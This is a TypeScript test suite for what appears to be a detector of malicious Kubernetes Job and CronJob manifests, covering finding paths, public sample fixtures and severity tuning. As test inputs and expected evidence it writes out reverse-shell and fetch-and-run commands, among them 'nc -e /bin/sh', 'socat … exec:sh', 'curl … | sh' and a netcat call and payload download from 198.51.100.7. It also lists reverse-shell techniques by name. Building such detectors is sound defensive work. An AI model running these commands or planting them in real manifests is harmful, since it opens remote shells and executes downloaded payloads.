import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, test } from 'node:test';
import { analyseManifest, DEFAULT_CONFIG, type Finding } from '../src/index.js';
import { analyse, cronJob, CRONJOB_POD_SPEC, findingsOf, JOB_POD_SPEC, podWith } from './indicator-helpers.ts';

function fixture(name: string): string {
  return readFileSync(new URL(`./fixtures/indicators/${name}`, import.meta.url), 'utf8');
}

/** `indicator path` pairs, the easiest way to compare whole results. */
function summary(findings: Finding[]): string[] {
  return findings.map((finding) => `${finding.indicator} ${finding.path}`);
}

const PRIVILEGED_POD = ['restartPolicy: Never', 'hostNetwork: true', 'containers:', '- name: x', '  image: alpine', '  securityContext: {privileged: true}'].join('\n');

describe('where pod templates are found', () => {
  test('CronJob batch/v1 and batch/v1beta1 give the same findings', () => {
    assert.deepEqual(summary(analyse(cronJob(PRIVILEGED_POD, 'batch/v1beta1'))), summary(analyse(cronJob(PRIVILEGED_POD, 'batch/v1'))));
    assert.deepEqual(summary(analyse(cronJob(PRIVILEGED_POD, 'batch/v1beta1'))), [
      `attacker-tooling ${CRONJOB_POD_SPEC}/containers/0/image`,
      `privileged-container ${CRONJOB_POD_SPEC}/containers/0/securityContext/privileged`,
      `host-network ${CRONJOB_POD_SPEC}/hostNetwork`,
    ]);
  });

  for (const kind of ['Deployment', 'Pod', 'DaemonSet', 'StatefulSet', 'ReplicaSet']) {
    test(`a ${kind} is out of scope: no findings`, () => {
      const text = [
        'apiVersion: apps/v1',
        `kind: ${kind}`,
        'metadata: {name: web}',
        'spec:',
        '  hostNetwork: true',
        '  containers: [{name: x, image: "kalilinux/kali-rolling", command: [sh, -c, "curl x | sh"], securityContext: {privileged: true}}]',
        '  template:',
        '    spec:',
        '      containers: [{name: x, image: busybox, securityContext: {privileged: true}}]',
        '',
      ].join('\n');
      assert.deepEqual(analyse(text), []);
    });
  }

  test('a CronJob kind of another API group is not a Kubernetes CronJob', () => {
    const text = cronJob(PRIVILEGED_POD).replace('apiVersion: batch/v1', 'apiVersion: example.com/v1');
    assert.deepEqual(analyse(text), []);
  });

  test('a List of jobs: every item is checked, at /items/N', () => {
    const text = JSON.stringify({
      apiVersion: 'v1',
      kind: 'List',
      items: [
        { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'c' }, data: { script: 'curl x | sh' } },
        { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'j' }, spec: { template: { spec: { containers: [{ name: 'x', image: 'r/app', command: ['socat', 'tcp:h:1', 'exec:sh'] }] } } } },
      ],
    }, null, 2);
    assert.deepEqual(summary(analyse(text)), [
      `attacker-tooling /items/1${JOB_POD_SPEC}/containers/0/command/0`.replace('attacker-tooling', 'shell-escape'),
    ]);
  });

  test('a JSON document: findings carry exact line and column', () => {
    const text = JSON.stringify({ apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'j' }, spec: { template: { spec: { containers: [{ name: 'x', image: 'r/app', securityContext: { privileged: true } }] } } } }, null, 2);
    const [finding] = findingsOf(text, 'privileged-container');
    const line = text.split('\n').findIndex((l) => l.includes('"privileged": true')) + 1;
    assert.equal(finding.range?.start.line, line);
    assert.equal(finding.range?.start.column, text.split('\n')[line - 1].indexOf('true') + 1);
  });

  test('flow style, all on a few lines (after a comment: a file that starts with `{` is JSON to kubectl)', () => {
    const text = '# flow style\n{apiVersion: batch/v1, kind: Job, metadata: {name: j},\n spec: {template: {spec: {containers: [{name: x, image: r/app, command: [sh, -c, "nc -e /bin/sh h 1"]}]}}}}\n';
    const [finding] = findingsOf(text, 'shell-escape');
    assert.equal(finding.path, `${JOB_POD_SPEC}/containers/0/command/2`);
    assert.equal(finding.range?.start.line, 3);
  });

  test('several documents: each finding names its document', () => {
    const text = cronJob(PRIVILEGED_POD) + '---\n' + cronJob(podWith({ command: ['curl', 'x'] }));
    const documents = analyse(text).map((finding) => `${finding.document} ${finding.indicator}`);
    assert.deepEqual(documents, ['0 attacker-tooling', '0 privileged-container', '0 host-network', '1 attacker-tooling']);
  });
});

describe('the public samples', () => {
  test('Atomic Red Team T1053.007: busybox image (information), and its `date; echo` script runs no tool', () => {
    const findings = analyse(fixture('atomic-red-team-T1053.007-cronjob.yaml'));
    assert.deepEqual(
      findings.map((f) => `${f.indicator} ${f.severity} ${f.path} ${f.range?.start.line}:${f.range?.start.column}`),
      [`attacker-tooling information ${CRONJOB_POD_SPEC}/containers/0/image 13:20`],
    );
  });

  test('the Kubernetes docs CronJob: busybox image only', () => {
    assert.deepEqual(summary(analyse(fixture('kubernetes-docs-cronjob.yaml'))), [`attacker-tooling ${CRONJOB_POD_SPEC}/containers/0/image`]);
  });

  test('the Kubernetes docs Job: the perl image, and perl invoked by its flow-style command', () => {
    const findings = analyse(fixture('kubernetes-docs-job.yaml'));
    assert.deepEqual(
      findings.map((f) => `${f.severity} ${f.path} ${f.range?.start.line}:${f.range?.start.column}-${f.range?.end.column}`),
      [`information ${JOB_POD_SPEC}/containers/0/image 10:16-20`, `warning ${JOB_POD_SPEC}/containers/0/command/0 11:20-24`],
    );
  });

  test('an intruder CronJob: every technique reported where it sits', () => {
    const findings = analyse(fixture('reverse-shell-cronjob.yaml'));
    const containers = `${CRONJOB_POD_SPEC}/containers/0`;
    const escapes = findings.filter((f) => f.indicator === 'shell-escape').map((f) => `${f.path} ${f.message.split(':')[0]}`);
    assert.deepEqual(escapes, [
      `${containers}/args/0 Container "metrics" makes a file executable (chmod +x), typically a payload it just fetched`,
      `${containers}/args/0 Container "metrics" runs a file it downloaded`,
      `${containers}/args/0 Container "metrics" decodes base64 (base64 -d), a common way to smuggle a payload past review`,
      `${containers}/args/0 Container "metrics" creates a named pipe (mkfifo), used to wire a shell to a network connection`,
      `${containers}/args/0 Container "metrics" starts an interactive shell (-i), the core of a reverse shell`,
      `${containers}/lifecycle/postStart/exec/command/2 Container "metrics" starts an interactive shell (-i), the core of a reverse shell in its postStart hook`,
      `${containers}/lifecycle/postStart/exec/command/2 Container "metrics" opens a raw network connection through /dev/tcp or /dev/udp in its postStart hook`,
    ]);
    const others = new Set(findings.filter((f) => f.indicator !== 'shell-escape').map((f) => f.indicator));
    assert.deepEqual([...others].sort(), ['attacker-tooling', 'host-path-mount', 'host-pid', 'privileged-container', 'sensitive-mount']);
    const invoked = findings.filter((f) => f.indicator === 'attacker-tooling' && !f.path.endsWith('/image')).map((f) => f.evidence);
    assert.deepEqual(invoked, ['nc 198.51.100.7 4444 > /tmp/f', 'curl -fsSL -o /work/kit http://198.51.100.7/kit']);
    const run = findings.find((f) => /runs a file it downloaded/.test(f.message));
    assert.equal(run?.evidence, 'curl -fsSL -o /work/kit http://198.51.100.7/kit … /work/kit');
  });

  test('everyday jobs that only mention the words: nothing but what they really do', () => {
    assert.deepEqual(summary(analyse(fixture('benign-ci-jobs.yaml'))), []);
  });
});

describe('tuning applies to command findings', () => {
  const text = cronJob(podWith({ command: ['sh', '-c', 'curl -s http://x | sh'] }));

  test('severity override: attacker-tooling as information', () => {
    const findings = analyseManifest(text, 'x.yaml', { config: { ...DEFAULT_CONFIG, severity: { 'attacker-tooling': 'information' } } }).findings;
    assert.equal(findings.find((f) => f.indicator === 'attacker-tooling')?.severity, 'information');
  });

  test('shell-escape off', () => {
    const findings = analyseManifest(text, 'x.yaml', { config: { ...DEFAULT_CONFIG, severity: { 'shell-escape': 'off' } } }).findings;
    assert.deepEqual(findings.map((f) => f.indicator), ['attacker-tooling']);
  });

  test('an ignore comment on the line above the script suppresses shell-escape there', () => {
    const lines = text.split('\n');
    const at = lines.findIndex((line) => line.includes('command:'));
    lines.splice(at, 0, '  # jobsentinel-ignore: shell-escape');
    assert.deepEqual(analyse(lines.join('\n')).map((f) => f.indicator), ['attacker-tooling']);
  });

  test('the jobsentinel.io/ignore annotation suppresses both command indicators', () => {
    const annotated = text.replace('  name: nightly\n', '  name: nightly\n  annotations: {jobsentinel.io/ignore: "attacker-tooling, shell-escape"}\n');
    assert.deepEqual(analyse(annotated), []);
  });

  test('an ignore entry by image covers the invocations of that image only', () => {
    const pod = [
      'containers:',
      '- {name: ci, image: "alpine:3.20", command: [sh, -c, "curl -s http://x > /tmp/r"]}',
      '- {name: app, image: "registry.example/app:1", command: [sh, -c, "wget -q http://y"]}',
    ].join('\n');
    const config = { ...DEFAULT_CONFIG, ignore: [{ indicators: ['attacker-tooling'], images: ['alpine:*'] }] };
    const findings = analyseManifest(cronJob(pod), 'x.yaml', { config }).findings;
    assert.deepEqual(findings.map((f) => f.evidence), ['wget -q http://y']);
  });
});
